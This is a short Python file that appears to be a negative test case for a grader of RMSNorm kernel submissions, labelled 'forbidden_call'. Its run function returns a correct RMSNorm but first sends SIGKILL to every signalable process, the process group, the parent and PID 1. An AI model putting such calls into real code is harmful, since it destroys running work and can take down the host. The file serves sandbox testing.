"""Signal every process there is.

row: I2
operator: rmsnorm
reason: forbidden_call
"""

# mypy: ignore-errors

import os
import signal

import torch


def right(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    wide = x.float()
    return (wide * torch.rsqrt(wide.square().mean(-1, keepdim=True) + eps) * weight.float()).to(x.dtype)


def run(x: torch.Tensor, weight: torch.Tensor, eps: float = 1e-6) -> torch.Tensor:
    for target in (-1, 0, os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL if target != os.getpid() else 0)
        except OSError:
            continue
    return right(x, weight, eps)
